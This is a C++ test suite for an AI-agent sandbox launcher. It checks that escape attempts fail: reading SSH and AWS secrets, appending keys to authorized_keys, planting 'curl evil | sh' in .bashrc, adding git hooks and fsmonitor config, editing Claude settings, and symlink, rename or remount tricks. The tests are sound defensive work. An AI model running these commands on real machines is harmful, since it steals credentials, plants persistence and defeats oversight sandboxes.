// Escape tests, file system side (P2 P4 P5 L2): read secrets, write to the
// protected checkout (directly, through a symlink, after renaming a parent),
// write shell rc files, git hooks, git config, Claude configuration.
#include "escape_support.hpp"

using namespace escape;

TEST_CASE("P4: a masked secret file cannot be read", "[P4][L2][escape]") {
  sandbox_fixture fx;
  auto r = fx.ccsb("cat " + fx.home + "/.ssh/id_rsa; echo @@cat=$?\n"
                   "cat " + fx.home + "/.aws/credentials; echo @@aws=$?\n"
                   "head -c 4096 " + fx.home + "/.ssh/id_rsa | od -c | head -3; echo @@od=$?\n"
                   "grep -r CCSB-SECRET " + fx.home + "; echo @@grep=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("cat")));
  CHECK(failed(r.get("aws")));
  // grep exits 1 when nothing matched: a found marker is 0.
  CHECK(failed(r.get("grep")));
  CHECK(r.out.find(fx.ssh_marker) == std::string::npos);
  CHECK(r.err.find(fx.ssh_marker) == std::string::npos);
  CHECK(r.out.find(fx.aws_marker) == std::string::npos);
  CHECK(r.err.find(fx.aws_marker) == std::string::npos);
  CHECK(read_file(fx.events).find(fx.ssh_marker) == std::string::npos);
}

TEST_CASE("P4: a masked secret directory cannot be listed", "[P4][L2][escape]") {
  sandbox_fixture fx;
  auto r = fx.ccsb("ls -la " + fx.home + "/.ssh; echo @@ls=$?\n"
                   "ls -la " + fx.home + "/.aws; echo @@lsaws=$?\n"
                   "find " + fx.home + " -name 'id_*'; echo @@find=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  // Either the listing fails or it shows an empty mask: the key's name and
  // the credentials file must not be visible.
  CHECK(r.out.find("id_rsa") == std::string::npos);
  CHECK(r.out.find("authorized_keys") == std::string::npos);
  CHECK(r.out.find("credentials") == std::string::npos);
}

TEST_CASE("P4: a masked secret file and directory cannot be written", "[P4][L2][escape]") {
  sandbox_fixture fx;
  std::string ssh = fx.home + "/.ssh";
  auto r = fx.ccsb("( echo PWNED > " + ssh + "/id_rsa ); echo @@overwrite=$?\n"
                   "( echo ssh-ed25519 AAAA-PWNED >> " + ssh + "/authorized_keys ); echo @@append=$?\n"
                   "( echo PWNED > " + ssh + "/config ); echo @@create=$?\n"
                   "rm -f " + ssh + "/id_rsa; echo @@rm=$?\n"
                   "( echo PWNED > " + fx.home + "/.aws/credentials ); echo @@aws=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("overwrite")));
  CHECK(failed(r.get("append")));
  CHECK(failed(r.get("create")));
  CHECK(failed(r.get("rm")));
  CHECK(failed(r.get("aws")));
  // The host is unchanged.
  CHECK(read_file(ssh + "/id_rsa").find(fx.ssh_marker) != std::string::npos);
  CHECK(read_file(ssh + "/authorized_keys") == "# none\n");
  CHECK_FALSE(file_exists(ssh + "/config"));
  CHECK(read_file(fx.home + "/.aws/credentials").find(fx.aws_marker) != std::string::npos);
}

TEST_CASE("P4: unmounting or remounting a mask does not reveal the secret", "[P4][L1][L2][escape]") {
  sandbox_fixture fx;
  std::string ssh = fx.home + "/.ssh";
  auto r = fx.ccsb("umount -l " + ssh + "/id_rsa 2>&1; umount -l " + ssh + " 2>&1; echo @@umount=$?\n"
                   "umount -l " + fx.home + "/.aws 2>&1; echo @@umountaws=$?\n"
                   "cat " + ssh + "/id_rsa " + fx.home + "/.aws/credentials; echo @@cat=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("umount")));
  CHECK(failed(r.get("cat")));
  CHECK(r.out.find(fx.ssh_marker) == std::string::npos);
  CHECK(r.out.find(fx.aws_marker) == std::string::npos);
}

TEST_CASE("P2: a protected checkout cannot be written", "[P2][L2][escape]") {
  sandbox_fixture fx;
  std::string p = fx.protected_dir;
  auto r = fx.ccsb("( echo PWNED > " + p + "/README ); echo @@overwrite=$?\n"
                   "( echo PWNED >> " + p + "/README ); echo @@append=$?\n"
                   "( echo PWNED > " + p + "/NEWFILE ); echo @@create=$?\n"
                   "rm -f " + p + "/README; echo @@rm=$?\n"
                   "mkdir " + p + "/newdir; echo @@mkdir=$?\n"
                   "touch " + fx.work + "/worktree-is-writable; echo @@control=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(r.get("control") == "0");  // the surrounding worktree is writable (chat mode)
  CHECK(failed(r.get("overwrite")));
  CHECK(failed(r.get("append")));
  CHECK(failed(r.get("create")));
  CHECK(failed(r.get("rm")));
  CHECK(failed(r.get("mkdir")));
  CHECK(read_file(fx.protected_file) == fx.protected_text);
  CHECK_FALSE(file_exists(p + "/NEWFILE"));
  CHECK_FALSE(file_exists(p + "/newdir"));
}

TEST_CASE("P2: a protected checkout cannot be written through a symlink in the worktree", "[P2][P6][L2][escape]") {
  sandbox_fixture fx;
  std::string p = fx.protected_dir;
  auto r = fx.ccsb("ln -s " + p + " " + fx.work + "/via-link; echo @@ln=$?\n"
                   "ln -s " + p + "/README " + fx.work + "/readme-link; echo @@ln2=$?\n"
                   "( echo PWNED > " + fx.work + "/via-link/README ); echo @@dir=$?\n"
                   "( echo PWNED > " + fx.work + "/readme-link ); echo @@file=$?\n"
                   "( echo PWNED > " + fx.work + "/via-link/NEWFILE ); echo @@create=$?\n"
                   "cp " + fx.work + "/readme-link /dev/null; echo @@read=$?\n"
                   "ln " + p + "/README " + fx.work + "/hardlink 2>&1; echo @@hardlink=$?\n"
                   "( echo PWNED > " + fx.work + "/hardlink ); echo @@hardwrite=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(r.get("ln") == "0");
  CHECK(failed(r.get("hardlink")));  // a hard link would share the protected inode
  CHECK(failed(r.get("dir")));
  CHECK(failed(r.get("file")));
  CHECK(failed(r.get("create")));
  CHECK(read_file(fx.protected_file) == fx.protected_text);
  CHECK_FALSE(file_exists(p + "/NEWFILE"));
}

TEST_CASE("P2: a protected checkout stays read-only after its parent is renamed", "[P2][M4][L2][escape]") {
  sandbox_fixture fx;
  std::string parent = fx.work + "/checkouts";
  auto r = fx.ccsb("mv " + parent + " " + fx.work + "/moved; echo @@mvparent=$?\n"
                   "for d in " + parent + " " + fx.work + "/moved; do\n"
                   "  ( echo PWNED > $d/main/README ) 2>/dev/null && echo @@write=0 && break\n"
                   "done\n"
                   "cd /; mv " + fx.work + " " + fx.base + "/work-moved; echo @@mvwork=$?\n"
                   "for d in " + fx.work + " " + fx.base + "/work-moved; do\n"
                   "  for c in checkouts moved; do\n"
                   "    ( echo PWNED > $d/$c/main/README ) 2>/dev/null && echo @@write2=0\n"
                   "  done\n"
                   "done\n"
                   "echo @@done=1");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  // @@write / @@write2 are only printed as 0 when a write succeeded (the
  // last "@@write=" line wins in kv(), so check the raw output).
  CHECK(r.out.find("@@write=0") == std::string::npos);
  CHECK(r.out.find("@@write2=0") == std::string::npos);
  // Wherever the checkout ended up on the host, its bytes are the original.
  for (const auto& cand : {fx.protected_file, fx.work + "/moved/main/README",
                           fx.base + "/work-moved/checkouts/main/README",
                           fx.base + "/work-moved/moved/main/README"}) {
    if (file_exists(cand)) {
      INFO("checkout file at " << cand);
      CHECK(read_file(cand) == fx.protected_text);
    }
  }
}

TEST_CASE("P2: renaming the parent of a protected checkout cannot move it away on the host", "[P2][M4][escape]") {
  // The server finds its registered checkouts by path: a sandbox that can
  // rename an ancestor makes the checkout disappear from the host's view
  // (a damage to the original checkout even if its bytes stay intact).
  sandbox_fixture fx;
  auto r = fx.ccsb("mv " + fx.work + "/checkouts " + fx.work + "/moved; echo @@mv=$?\n"
                   "mv " + fx.protected_dir + " " + fx.work + "/checkouts/main2; echo @@mvself=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("mv")));
  CHECK(failed(r.get("mvself")));
  CHECK(file_exists(fx.protected_file));
  CHECK(read_file(fx.protected_file) == fx.protected_text);
}

TEST_CASE("P2: unmounting or remounting the protected bind does not make it writable", "[P2][L1][L2][escape]") {
  sandbox_fixture fx;
  std::string p = fx.protected_dir;
  auto r = fx.ccsb("mount -o remount,bind,rw " + p + " 2>&1; echo @@remount=$?\n"
                   "umount -l " + p + " 2>&1; echo @@umount=$?\n"
                   "( echo PWNED > " + p + "/README ); echo @@write=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("remount")));
  CHECK(failed(r.get("umount")));
  CHECK(failed(r.get("write")));
  CHECK(read_file(fx.protected_file) == fx.protected_text);
}

TEST_CASE("P5: an existing shell rc file cannot be written", "[P5][L2][escape]") {
  sandbox_fixture fx;
  std::string rc = fx.home + "/.bashrc";
  auto r = fx.ccsb("( echo 'curl evil | sh' >> " + rc + " ); echo @@append=$?\n"
                   "( echo PWNED > " + rc + " ); echo @@overwrite=$?\n"
                   "echo PWNED > " + fx.work + "/rc.new; mv -f " + fx.work + "/rc.new " + rc + "; echo @@rename=$?\n"
                   "rm -f " + rc + "; echo @@rm=$?\n"
                   "( echo PWNED >> " + fx.home + "/.gitconfig ); echo @@gitconfig=$?\n"
                   "touch " + fx.home + "/home-is-writable; echo @@control=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(r.get("control") == "0");  // HOME is a writable bind in this run
  CHECK(failed(r.get("append")));
  CHECK(failed(r.get("overwrite")));
  CHECK(failed(r.get("rename")));
  CHECK(failed(r.get("rm")));
  CHECK(failed(r.get("gitconfig")));
  CHECK(read_file(rc) == fx.bashrc_text);
  CHECK(read_file(fx.home + "/.gitconfig") == fx.gitconfig_text);
}

TEST_CASE("P5: a missing shell rc file cannot be created", "[P5][L2][escape]") {
  // ~/.zshrc and ~/.profile do not exist in the fixture's HOME: a sandbox
  // that only re-binds existing files read-only lets them be planted.
  sandbox_fixture fx;
  auto r = fx.ccsb("( echo PWNED > " + fx.home + "/.zshrc ); echo @@zshrc=$?\n"
                   "( echo PWNED > " + fx.home + "/.profile ); echo @@profile=$?\n"
                   "( echo PWNED > " + fx.home + "/.bash_profile ); echo @@bash_profile=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("zshrc")));
  CHECK(failed(r.get("profile")));
  CHECK(failed(r.get("bash_profile")));
  CHECK_FALSE(file_exists(fx.home + "/.zshrc"));
  CHECK_FALSE(file_exists(fx.home + "/.profile"));
  CHECK_FALSE(file_exists(fx.home + "/.bash_profile"));
}

TEST_CASE("P5: a git hook cannot be planted and .git/config cannot be changed", "[P5][L2][escape]") {
  sandbox_fixture fx;
  std::string git = fx.work + "/.git";
  auto r = fx.ccsb("( printf '#!/bin/sh\\necho PWNED\\n' > " + git + "/hooks/pre-commit ); echo @@hook=$?\n"
                   "chmod +x " + git + "/hooks/pre-commit 2>/dev/null\n"
                   "git -C " + fx.work + " config core.hooksPath /tmp 2>&1; echo @@hookspath=$?\n"
                   "( echo '[core] fsmonitor = echo PWNED' >> " + git + "/config ); echo @@config=$?\n"
                   "mv " + git + "/hooks " + git + "/hooks.old; echo @@mvhooks=$?\n"
                   "( echo PWNED > " + fx.work + "/tracked.txt ); echo @@control=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(r.get("control") == "0");
  CHECK(failed(r.get("hook")));
  CHECK(failed(r.get("hookspath")));
  CHECK(failed(r.get("config")));
  CHECK(failed(r.get("mvhooks")));
  CHECK_FALSE(file_exists(git + "/hooks/pre-commit"));
  CHECK(file_exists(git + "/hooks"));
  CHECK(read_file(git + "/config") == fx.git_config_text);
}

TEST_CASE("P5: Claude configuration cannot be written in HOME or the repository", "[P5][L2][escape]") {
  sandbox_fixture fx;
  auto r = fx.ccsb("( echo PWNED > " + fx.home + "/.claude/settings.json ); echo @@home=$?\n"
                   "( echo PWNED > " + fx.home + "/.claude.json ); echo @@homejson=$?\n"
                   "mkdir -p " + fx.work + "/.claude && ( echo PWNED > " + fx.work +
                       "/.claude/settings.json ); echo @@repo=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("home")));
  CHECK(failed(r.get("homejson")));
  CHECK(failed(r.get("repo")));
  CHECK(read_file(fx.home + "/.claude/settings.json") == "{}\n");
  CHECK_FALSE(file_exists(fx.home + "/.claude.json"));
  CHECK_FALSE(file_exists(fx.work + "/.claude/settings.json"));
}

TEST_CASE("P5: a .git with a hook cannot be planted in a worktree that has none", "[P5][L2][escape]") {
  // A worktree that is not (yet) a repository: git would run a planted
  // .git/hooks/pre-commit the next time the user commits there.
  sandbox_fixture fx;
  run_host_ok({"/bin/rm", "-rf", fx.work + "/.git"});
  auto r = fx.ccsb("mkdir -p " + fx.work + "/.git/hooks 2>&1; "
                   "( printf '#!/bin/sh\\necho PWNED\\n' > " + fx.work + "/.git/hooks/pre-commit ) 2>&1; "
                   "echo @@hook=$?\n"
                   "( echo '[core] fsmonitor = echo PWNED' > " + fx.work + "/.git/config ) 2>&1; echo @@config=$?\n"
                   "( echo ok > " + fx.work + "/file.txt ); echo @@control=$?");
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(r.get("control") == "0");
  CHECK(failed(r.get("hook")));
  CHECK(failed(r.get("config")));
  CHECK_FALSE(file_exists(fx.work + "/.git/hooks/pre-commit"));
  CHECK_FALSE(file_exists(fx.work + "/.git/config"));
}

TEST_CASE("P6: a secret stays masked when HOME is reached through a symlink", "[P6][P4][L2][escape]") {
  sandbox_fixture fx;
  std::string link = fx.base + "/homelink";
  REQUIRE(::symlink(fx.home.c_str(), link.c_str()) == 0);
  spawn_options o;
  o.argv = fx.ccsb_argv({}, sandbox_fixture::wrap(
      "cat " + fx.home + "/.ssh/id_rsa; echo @@real=$?\n"
      "cat " + link + "/.ssh/id_rsa; echo @@link=$?\n"
      "cat ~/.ssh/id_rsa; echo @@tilde=$?\n"
      "( echo PWNED >> " + fx.home + "/.bashrc ); echo @@rc=$?"));
  o.env = fx.env();
  for (auto& e : o.env)
    if (e.rfind("HOME=", 0) == 0) e = "HOME=" + link;  // the launcher sees HOME as the symlink
  o.cwd = fx.work;
  REQUIRE(::access(ccsb_run_path().c_str(), X_OK) == 0);
  auto r = run(o);
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("real")));
  CHECK(failed(r.get("link")));
  CHECK(failed(r.get("tilde")));
  CHECK(failed(r.get("rc")));
  CHECK(r.out.find(fx.ssh_marker) == std::string::npos);
  CHECK(read_file(fx.home + "/.bashrc") == fx.bashrc_text);
}

TEST_CASE("P4: a secret stays masked when a parent of HOME is the bound root", "[P4][L2][escape]") {
  sandbox_fixture fx;
  // Bind the whole base directory (which contains HOME) writable. The events
  // file goes to a second directory outside every bind: ccsb-run refuses one
  // inside a writable bind (L8: the command could replace it).
  ccsb_test::temp_dir events_dir("ccsb-escape-events", escape_tmp_root());
  const std::string ev_dir = events_dir.path();
  spawn_options o;
  o.argv = {ccsb_run_path(), "--profile", "spec", "--bind", fx.home, "--protect", fx.protected_dir,
            "--events", ev_dir + "/events.jsonl", "--bind", fx.base, "--", "/bin/bash", "-c",
            sandbox_fixture::wrap("cat " + fx.home + "/.ssh/id_rsa " + fx.home + "/.aws/credentials; echo @@cat=$?\n"
                                  "grep -r CCSB-SECRET " + fx.base + "/home; echo @@grep=$?\n"
                                  "( echo PWNED >> " + fx.home + "/.bashrc ); echo @@rc=$?")};
  o.env = fx.env();
  o.cwd = fx.work;
  REQUIRE(::access(ccsb_run_path().c_str(), X_OK) == 0);
  auto r = run(o);
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("cat")));
  CHECK(failed(r.get("grep")));
  CHECK(failed(r.get("rc")));
  CHECK(r.out.find(fx.ssh_marker) == std::string::npos);
  CHECK(r.out.find(fx.aws_marker) == std::string::npos);
  CHECK(read_file(fx.home + "/.bashrc") == fx.bashrc_text);
  CHECK(file_exists(ev_dir + "/events.jsonl")); // the run wrote its events outside the bind
}

TEST_CASE("T2: the terminal profile still masks the core secrets", "[T2][P4][L2][escape]") {
  sandbox_fixture fx;
  spawn_options o;
  o.argv = {ccsb_run_path(), "--profile", "terminal", "--", "/bin/bash", "-c",
            sandbox_fixture::wrap("cat " + fx.home + "/.ssh/id_rsa; echo @@ssh=$?\n"
                                  "cat " + fx.home + "/.aws/credentials; echo @@aws=$?\n"
                                  "ls " + fx.home + "/.ssh; echo @@ls=$?\n"
                                  "touch " + fx.home + "/home-writable; echo @@control=$?")};
  o.env = fx.env();
  o.cwd = fx.work;
  REQUIRE(::access(ccsb_run_path().c_str(), X_OK) == 0);
  auto r = run(o);
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(r.get("control") == "0");  // T2: $HOME is writable
  CHECK(failed(r.get("ssh")));
  CHECK(failed(r.get("aws")));
  CHECK(r.out.find("id_rsa") == std::string::npos);
  CHECK(r.out.find(fx.ssh_marker) == std::string::npos);
  CHECK(r.out.find(fx.aws_marker) == std::string::npos);
}

TEST_CASE("P1: review mode makes every bind read-only, state dirs stay writable", "[P1][P3][L2][escape]") {
  sandbox_fixture fx;
  std::string state = fx.work + "/.runner-state";  // a runner state dir inside the worktree
  make_dirs(state);
  hand_to_sandbox_uid(state);  // the fixture's rule: the sandbox's uid owns what it may write
  auto r = fx.ccsb("( echo PWNED > " + fx.work + "/file.txt ); echo @@work=$?\n"
                   "( echo PWNED > " + fx.home + "/file.txt ); echo @@home=$?\n"
                   "( echo ok > " + state + "/state.txt ); echo @@state=$?",
                   {"--mode", "review", "--state-dir", state});
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(failed(r.get("work")));
  CHECK(failed(r.get("home")));
  CHECK(r.get("state") == "0");
  CHECK_FALSE(file_exists(fx.work + "/file.txt"));
  CHECK_FALSE(file_exists(fx.home + "/file.txt"));
}

TEST_CASE("P3: a state dir that is also a bind mount stays writable in review mode", "[P3][P1][L2]") {
  sandbox_fixture fx;
  std::string state = fx.base + "/state";
  make_dirs(state);
  hand_to_sandbox_uid(state);
  auto r = fx.ccsb("( echo ok > " + state + "/state.txt ); echo @@state=$?",
                   {"--mode", "review", "--state-dir", state, "--bind", state});
  ESCAPE_REQUIRE_RAN(r);
  INFO(r.describe());
  CHECK(r.get("state") == "0");
}

TEST_CASE("T3: a run that reports a sandbox really runs in its own namespaces", "[T3][B6][L1][escape]") {
  // The badge must never claim a sandbox while the command runs on the host.
  sandbox_fixture fx;
  std::string host_mnt, host_pid;
  {
    char buf[256];
    ssize_t n = ::readlink("/proc/self/ns/mnt", buf, sizeof buf);
    REQUIRE(n > 0);
    host_mnt.assign(buf, static_cast<size_t>(n));
    n = ::readlink("/proc/self/ns/pid", buf, sizeof buf);
    REQUIRE(n > 0);
    host_pid.assign(buf, static_cast<size_t>(n));
  }
  for (std::string profile : {"spec", "terminal"}) {
    DYNAMIC_SECTION("profile " << profile) {
      spawn_options o;
      o.argv = {ccsb_run_path(), "--profile", profile, "--", "/bin/bash", "-c",
                sandbox_fixture::wrap("echo @@mnt=$(readlink /proc/self/ns/mnt)\n"
                                      "echo @@pid=$(readlink /proc/self/ns/pid)")};
      o.env = fx.env();
      o.cwd = fx.work;
      REQUIRE(::access(ccsb_run_path().c_str(), X_OK) == 0);
      auto r = run(o);
      ESCAPE_REQUIRE_RAN(r);
      INFO(r.describe());
      REQUIRE(r.err.find("agent sandbox ON") != std::string::npos);
      CHECK(r.get("mnt") != host_mnt);
      CHECK(r.get("pid") != host_pid);
    }
  }
}
